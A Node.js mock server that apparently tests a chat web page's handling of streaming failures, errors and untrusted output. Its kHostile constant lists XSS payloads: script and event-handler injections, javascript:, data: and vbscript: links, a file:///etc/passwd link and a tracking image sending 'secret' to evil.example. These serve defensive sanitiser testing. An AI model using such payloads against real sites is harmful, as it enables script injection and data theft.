// Copyright 2026 The gemma3.cpp authors. SPDX-License-Identifier: Apache-2.0
//
// A server with the page's files and just enough of OpenAI's dialect. It fails on demand, in ways that a real server
// cannot be made to at will: what the last message of the user says chooses the answer (see kScripts).

import {createServer} from 'node:http';
import {readFile} from 'node:fs/promises';
import {fileURLToPath} from 'node:url';
import {extname, join, normalize} from 'node:path';

const kPage = join(process.env.GEMMA3_SOURCE_DIR ?? fileURLToPath(new URL('../../..', import.meta.url)),
                   'tools/serve/page/');
const kTypes = {
  '.html': 'text/html; charset=utf-8', '.css': 'text/css; charset=utf-8', '.js': 'text/javascript; charset=utf-8',
  '.svg': 'image/svg+xml', '.txt': 'text/plain; charset=utf-8',
};
export const kPolicy = 'default-src \'none\'; script-src \'self\'; style-src \'self\'; img-src \'self\' data: blob:; ' +
    'connect-src \'self\'; base-uri \'none\'; form-action \'none\'; frame-ancestors \'none\'; ' +
    'require-trusted-types-for \'script\'; trusted-types \'none\'';

export const kHostile = [
  '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">',
  '<iframe src="javascript:parent.hacked=3"></iframe><svg onload="window.hacked=4"></svg>',
  '[a](javascript:window.hacked=5) [b](data:text/html,<script>window.hacked=6</script>) [c](vbscript:x) [d](file:///etc/passwd)',
  '<a href="javascript:window.hacked=7">e</a> <javascript:window.hacked=8>',
  '![tracker](https://evil.example/pixel.png?q=secret) ![x](javascript:window.hacked=9) ![y" onerror="window.hacked=10](https://evil.example/y)',
  '[good](https://example.org/a?b=c "onmouseover=window.hacked=11") and https://example.net/plain',
  '```html" onclick="window.hacked=12\n<b onmouseover="window.hacked=13">code</b></code></pre><script>window.hacked=14</script>\n```',
  '| <img src=x onerror=window.hacked=15> | b |\n| --- | --- |\n| &lt;script&gt;window.hacked=16&lt;/script&gt; | <style>*{display:none}</style> |',
  '[ref]\n\n[ref]: javascript:window.hacked=17',
  '\u202Egnp.exe \u0000 <!-- --> ]]> <![CDATA[ x ]]>',
  '`<img src=x onerror=window.hacked=18>` \\<img src=x onerror=window.hacked=19\\>',
].join('\n\n');

const words = (text) => text.match(/\s*\S+|\s+$/gu) ?? [];
const long = (count) => Array.from({length: count}, (_, i) =>
    `Paragraph ${i + 1} of a long answer, with *some* emphasis and \`code\`, that goes on for a while.\n\n`).join('');

// [what the message contains, the answer's text or {text, delay (ms between pieces), ...}]
const kScripts = [
  ['hostile', {text: kHostile}],
  ['slow', {text: long(40), delay: 40}],
  ['endless', {text: long(2000), delay: 4}],
  ['die', {text: 'The first half arrives, the second', die: true, delay: 10}],
  ['early end', {text: 'Ends without a reason', unfinished: true}],
  ['fail late', {text: 'Begins well', late: {message: 'out of memory', type: 'server_error', param: null, code: null}}],
  ['silent', {text: '', delay: 0, wait: 4000}],
  ['cut off', {text: 'This is cut', finish: 'length'}],
];

export async function startMock({key = null, models = ['mock-4b'], pictures = true, port = 0} = {}) {
  const requests = [];
  let busy = 0;
  const mock = {requests, set busy(count) { busy = count; }, aborted: 0, fixed: null};

  const refuse = (response, status, error, headers = {}) => {
    response.writeHead(status, {'Content-Type': 'application/json', ...headers});
    response.end(JSON.stringify({error: {type: 'invalid_request_error', param: null, code: null, ...error}}));
  };

  async function file(name, response) {
    const path = normalize(join(kPage, name));
    if (!path.startsWith(kPage)) return refuse(response, 404, {message: 'no such page'});
    try {
      const body = await readFile(path);
      response.writeHead(200, {
        'Content-Type': kTypes[extname(path)] ?? 'application/octet-stream', 'Content-Security-Policy': kPolicy,
        'X-Content-Type-Options': 'nosniff', 'Referrer-Policy': 'no-referrer', 'Cache-Control': 'no-cache',
      });
      response.end(body);
    } catch {
      refuse(response, 404, {message: 'no such page'});
    }
  }

  async function chat(request, response) {
    let body = '';
    for await (const piece of request) body += piece;
    body = JSON.parse(body);
    requests.push({...body, authorization: request.headers.authorization ?? null});
    if (busy > 0) {
      --busy;
      return refuse(response, 429, {message: 'the queue is full', type: 'rate_limit_error'}, {'Retry-After': '1'});
    }
    const last = body.messages.findLast(({role}) => role === 'user');
    const parts = typeof last.content === 'string' ? [{type: 'text', text: last.content}] : last.content;
    const said = parts.filter(({type}) => type === 'text').map(({text}) => text).join('');
    const fails = (what) => mock.fixed === null && said.includes(what);
    if (fails('too long')) {
      return refuse(response, 400, {
        message: 'This model\'s maximum context length is 8192 tokens. However, the messages have 9412 tokens.',
        param: 'messages', code: 'context_length_exceeded',
      });
    }
    if (fails('broken')) return refuse(response, 500, {message: 'matmul went on strike', type: 'server_error'});
    if (fails('gateway')) {
      response.writeHead(502, {'Content-Type': 'text/html'});
      return response.end('<h1>502 Bad Gateway</h1>');
    }
    const count = parts.filter(({type}) => type === 'image_url').length;
    let script = kScripts.find(([name]) => said.includes(name))?.[1];
    if (mock.fixed !== null) script = {text: mock.fixed};
    if (body.messages.at(-1).role === 'assistant') script = {text: ' and goes on.'};
    script ??= {text: count ? `I see ${count} ${count === 1 ? 'picture' : 'pictures'}.` : `You said: **${said}**`};
    const {text, delay = 5, die, unfinished, late, wait = 0, finish = 'stop'} = script;
    let gone = false;
    response.on('close', () => {
      if (!response.writableFinished && !die) ++mock.aborted;
      gone = true;
    });
    response.writeHead(200, {'Content-Type': 'text/event-stream; charset=utf-8', 'Cache-Control': 'no-cache'});
    const send = (data) => response.write(`data: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`);
    const head = {id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: body.model};
    const chunk = (delta, reason = null) => send({...head, choices: [{index: 0, delta, finish_reason: reason}]});
    response.write(': ping\n\n');
    const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
    if (wait) await sleep(wait);
    chunk({role: 'assistant', content: ''});
    const pieces = words(text);
    for (const piece of pieces) {
      if (gone) return;
      chunk({content: piece});
      if (delay) await sleep(delay);
    }
    if (die) {
      await new Promise((now) => { mock.die = now; });  // what was not read yet would be lost
      return response.destroy();
    }
    if (late) {
      send({error: late});
      return response.end();
    }
    if (unfinished) return response.end();
    chunk({}, finish);
    if (body.stream_options?.include_usage) {
      const usage = {prompt_tokens: 20, completion_tokens: pieces.length, total_tokens: 20 + pieces.length,
                     prompt_tokens_details: {cached_tokens: 12}};
      send({...head, choices: [], usage});
    }
    send('[DONE]');
    response.end();
  }

  const server = createServer((request, response) => {
    const path = new URL(request.url, 'http://x').pathname;
    if (request.method === 'GET' && !path.startsWith('/v1/')) return file(path === '/' ? 'index.html' : path, response);
    if (key && request.headers.authorization !== `Bearer ${key}`) {
      request.resume();
      return refuse(response, 401, {message: 'the API key is missing or wrong', code: 'invalid_api_key'});
    }
    if (path === '/v1/models') {
      response.writeHead(200, {'Content-Type': 'application/json'});
      return response.end(JSON.stringify({object: 'list', data: models.map((id) => ({
        id, object: 'model', created: 1, owned_by: 'mock',
        architecture: {input_modalities: pictures ? ['text', 'image'] : ['text'], output_modalities: ['text']},
      }))}));
    }
    if (path === '/v1/chat/completions' && request.method === 'POST') return chat(request, response);
    refuse(response, 404, {message: `there is no ${path} here`});
  });
  await new Promise((ready) => server.listen(port, '127.0.0.1', ready));
  mock.url = `http://127.0.0.1:${server.address().port}/`;
  mock.stop = () => {
    server.closeAllConnections();
    return new Promise((done) => server.close(done));
  };
  return mock;
}

// By hand: node mock.mjs 8099
if (process.argv[1] === fileURLToPath(import.meta.url)) {
  console.log((await startMock({port: Number(process.argv[2] ?? 0)})).url);
}
